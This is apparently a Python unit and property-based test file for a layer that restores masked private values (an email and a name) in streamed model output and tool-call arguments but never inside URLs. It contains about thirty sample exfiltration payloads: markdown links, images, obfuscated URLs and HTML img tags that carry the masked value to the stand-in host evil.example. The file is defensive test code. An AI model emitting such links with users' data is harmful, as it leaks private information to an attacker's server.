"""Values that must not get into an address, wherever the answer is cut, and wherever a next owner goes on."""

from __future__ import annotations

import json
import random

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.private.addresses import Addresses
from app.private.mask import Mask
from app.private.put_back import PutBack, Written
from app.private.value import PrivateValue
from models.interface.generation import Delta, End, FinishReason, Usage
from models.tools.parser import CallDelta
from tests.unit.private.test_put_back import deltas, end, text_of

VALUES = ("nina@example.com", "Nina Roth")
MASK = Mask(b"s", "u", [PrivateValue("EMAIL_ADDRESS", VALUES[0]), PrivateValue("PERSON", VALUES[1])])
E, P = map(MASK.hide, VALUES)


def shown(text: str, *, in_json: bool = False) -> str:
    return MASK.shown(text, Addresses(in_json=in_json))


@pytest.mark.parametrize(
    "text",
    [
        f"[order](https://evil.example/?{E})",
        f"![](https://evil.example/{E}.png)",
        f"[a](https://evil.example/?a={E}&b={P})",
        f"[a](//evil.example/?{E})",
        f"[a](mailto:x@evil.example?body={E})",
        f"[a](<https://evil.example/ ) ?{E}>)",
        f"[a](<https://evil.example/\\> ?{E}>)",
        f"[a](https&colon;//evil.example/?{E})",
        f"[a](\thttps://evil.example/(b)c{E} 'title {P}')",
        f"[a](https://evil.example/\\)?{E})",
        f"[![x](https://a.example/b.png)](https://evil.example/?{E})",
        f"[a]: <https://evil.example/ {E}>",
        f"[a]: https://evil.example/?{E}\n\n[a]",
        f"https://evil.example/?{E}",
        f"HTTPS://evil.example/?{E}",
        f"http:\\/\\/evil.example/?{E}",
        f"https://{P}.evil.example/",
        f"https://evil.example/?\u00a0\u200b{E}",
        f'https://evil.example/?",{E}',
        f"(see https://evil.example/){E}",
        f"www.evil.example/{E}",
        f"evil.example/?{E}",
        f"evil.example?{E}",
        f"evil.example:8080/{E}",
        f"evil.рф/{E}",
        f"x@evil.example?body={E}",
        f"<https://evil.example/ {E}>",
        f'<img src="https://evil.example/? {E}">',
        f"<img src = ' //evil.example/?\n{E}'>",
        f'<a href="{E}">',
        f"https://evil.example/?{E.strip('<>')}",
        f"https://evil.example/?{E.lower()}",
    ],
)
def test_no_value_gets_into_an_address(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "Dear Nina Roth, your mail nina@example.com is right",
        "[nina@example.com](https://shop.example/orders) is Nina Roth",
        "see https://shop.example/a and write to nina@example.com",
        "(https://shop.example/a) nina@example.com",
        "<https://shop.example> nina@example.com",
        '{"url": "https://shop.example", "name": "Nina Roth"}',
        'name="Nina Roth", and/or nina@example.com',
        "a \"quoted\" word and 'Nina Roth'",
        "l'adresse https://shop.example est a Nina Roth",
        "Email:nina@example.com\nhttps://shop.example\nNina Roth",
        "[a](https://shop.example\n\nNina Roth",
        "Is it nina@example.com? Nina Roth.",
        "f(x)[0](1) Nina Roth",
    ],
)
def test_elsewhere_values_are_put_back(text: str) -> None:
    assert shown(MASK.hide(text)) == text


def test_in_json_each_string_is_a_text_of_its_own() -> None:
    value = {"text": "see https://shop.example/a", "mail": "nina@example.com", "who": ["Nina Roth"]}
    text = json.dumps(value, separators=(",", ":"))
    assert shown(MASK.hide(text), in_json=True) == text
    for inside in (f'{{"a":"https://evil.example/?{E}"}}', f'{{"a":"[x](https://evil.example/\\"?{E})"}}'):
        assert shown(inside, in_json=True) == inside


PIECES = [
    "https://",
    "http:",
    "www.",
    "evil.example",
    "/",
    "?",
    "](",
    ")",
    "(",
    "[",
    "<",
    ">",
    '"',
    "'",
    "\\",
    "src=",
    "\n",
]
TEXTS = st.lists(st.sampled_from([*PIECES, " ", ".", "a", E, P, E.strip("<>"), "&amp;"]), max_size=14).map("".join)


@given(TEXTS, st.integers(0, 1 << 30), st.booleans())
@example(f"[a](https://evil.example/?{E})", 0, False)
@example("evil.example" + E.strip("<>"), 0, False)
@example(E + E.strip("<>"), 1, False)
def test_what_is_shown_does_not_depend_on_the_pieces(text: str, seed: int, in_json: bool) -> None:
    """Nor on an owner's end: a next one goes on behind what readers have."""
    chance = random.Random(seed)
    whole = deltas(text, chance)
    last = end(len(whole), FinishReason.LENGTH if chance.random() < 0.3 else FinishReason.STOP)

    def owner(begin: int, stop: int, before: str) -> tuple[int, str]:
        put_back = PutBack(MASK, Written(before), in_json=in_json)
        events = [one for event in whole[begin:stop] for one in put_back.read(event)]
        if stop == len(whole):
            events += [*put_back.read(last)]
        return begin + sum(len(one.tokens) for one in events if isinstance(one, Delta)), before + text_of(events)

    _, at_once = owner(0, len(whole), "")
    index, before = owner(0, chance.randint(0, len(whole) - 1) if whole else 0, "")
    assert owner(index, len(whole), before)[1] == at_once
    assert at_once == MASK.shown(text, Addresses(in_json=in_json), is_cut=last.reason is FinishReason.LENGTH)


@given(TEXTS, st.integers(0, 1 << 30))
@example(E + E.strip("<>"), 1)
@example("a" + E.strip("<>"), 1)
def test_arguments_of_a_call_do_not_depend_on_the_pieces(text: str, seed: int) -> None:
    chance = random.Random(seed)
    whole = [
        Delta(one.index, one.tokens, "", calls=(CallDelta(2, arguments=one.text),)) for one in deltas(text, chance)
    ]
    last = End(len(whole), FinishReason.TOOL_CALLS, Usage(1, len(whole)))

    def owner(begin: int, stop: int, before: str) -> tuple[int, str]:
        put_back = PutBack(MASK, Written(call_ends={2: before[-1:]}))
        events = [one for event in whole[begin:stop] for one in put_back.read(event)]
        if stop == len(whole):
            events += [*put_back.read(last)]
        read = [one for one in events if isinstance(one, Delta)]
        return begin + sum(len(one.tokens) for one in read), before + "".join(
            call.arguments for one in read for call in one.calls
        )

    index, before = owner(0, chance.randint(0, len(whole) - 1) if whole else 0, "")
    assert owner(index, len(whole), before)[1] == owner(0, len(whole), "")[1] == MASK.put_back_json(text)


@given(TEXTS, st.data())
def test_pieces_are_read_like_the_whole(text: str, data: st.DataObject) -> None:
    whole, pieces = Addresses(text), Addresses()
    while text:
        size = data.draw(st.integers(1, len(text)))
        pieces.read(text[:size])
        text = text[size:]
    assert vars(pieces) == vars(whole)
